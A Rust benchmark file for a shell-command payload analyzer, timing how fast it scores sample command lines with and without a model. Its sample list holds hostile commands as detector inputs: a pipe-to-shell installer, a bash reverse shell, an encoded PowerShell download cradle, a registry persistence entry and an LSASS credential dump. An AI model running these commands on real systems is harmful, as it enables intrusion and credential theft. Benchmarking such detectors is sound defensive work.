//! Static analysis speed: command lines per second on one core, with and without a model.

use std::sync::Arc;

use warden_payload::features::FeatureSet;
use warden_payload::model::{PayloadModel, TrainingSummary};
use warden_payload::{Analyzer, VerdictConfig};

fn main() {
    divan::main();
}

const SAMPLES: &[&str] = &[
    "ls -la /var/log",
    "git commit -am 'fix the parser'",
    "find . -name '*.rs' -exec grep -n TODO {} +",
    "curl -fsSL https://get.example.com | sh",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAnACkA",
    "Get-ChildItem -Path C:\\Users -Recurse -Filter *.docx | Select-Object FullName",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe /f",
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    "tar -czf /tmp/backup.tgz /home/user/documents",
];

fn model() -> Arc<PayloadModel> {
    let bits = warden_payload::model::DEFAULT_BITS;
    Arc::new(
        PayloadModel {
            features: FeatureSet::default(),
            weights: (0..1u32 << bits)
                .map(|i| ((i % 97) as f32 - 48.0) / 100.0)
                .collect(),
            idf: (0..1u32 << bits)
                .map(|i| 1.0 + (i % 7) as f32 / 3.0)
                .collect(),
            bias: 0.0,
            platt_a: 1.0,
            platt_b: 0.0,
            summary: TrainingSummary::default(),
            pairs: Vec::new(),
            techniques: None,
            patterns: None,
            combiner: None,
            presence: Some(trees(bits)),
        }
        .packed(),
    )
}

/// Presence trees of the default shape, their splits spread over the table (a walk costs
/// the same whatever the trees learned).
fn trees(bits: u32) -> warden_payload::presence::PresenceTrees {
    let p = warden_payload::presence::TreeParams::default();
    let internal = (1usize << p.depth) - 1;
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let splits: Vec<u32> = (0..p.trees * internal)
        .map(|_| (next() % (1u64 << bits)) as u32)
        .collect();
    warden_payload::presence::PresenceTrees {
        bits,
        depth: p.depth,
        base: -2.0,
        values: vec![0.0; splits.len()],
        splits,
        leaves: (0..p.trees << p.depth)
            .map(|_| (next() % 100) as f32 / 1000.0 - 0.05)
            .collect(),
    }
}

#[divan::bench]
fn signatures_only(b: divan::Bencher) {
    let a = Analyzer::new(None, VerdictConfig::default());
    b.counter(divan::counter::ItemsCount::new(SAMPLES.len()))
        .bench(|| {
            SAMPLES
                .iter()
                .map(|t| a.analyze(divan::black_box(t), None).score)
                .sum::<f32>()
        });
}

#[divan::bench]
fn with_model(b: divan::Bencher) {
    let a = Analyzer::new(Some(model()), VerdictConfig::default());
    b.counter(divan::counter::ItemsCount::new(SAMPLES.len()))
        .bench(|| {
            SAMPLES
                .iter()
                .map(|t| a.analyze(divan::black_box(t), None).score)
                .sum::<f32>()
        });
}

/// What a stream does for a text that does not alert: the same score, no explanation.
#[divan::bench]
fn with_model_scored_only(b: divan::Bencher) {
    let a = Analyzer::new(Some(model()), VerdictConfig::default());
    b.counter(divan::counter::ItemsCount::new(SAMPLES.len()))
        .bench(|| {
            SAMPLES
                .iter()
                .map(|t| a.triage(divan::black_box(t), None).score)
                .sum::<f32>()
        });
}

/// A cmd `set` variable that doubles itself at each expansion, non-ASCII text around it
/// (found by fuzzing): eight layers, the last of 2 MiB.
#[divan::bench]
fn a_self_doubling_variable() -> f32 {
    static ANALYZER: std::sync::LazyLock<Analyzer> =
        std::sync::LazyLock::new(|| Analyzer::new(None, VerdictConfig::default()));
    ANALYZER
        .analyze(
            divan::black_box("||set a= é%%a%%a%a éé %cmst=% %a%%a%a é ] %||set a= é%a% %a%%a%a&é"),
            Some(warden_payload::Shell::Cmd),
        )
        .score
}
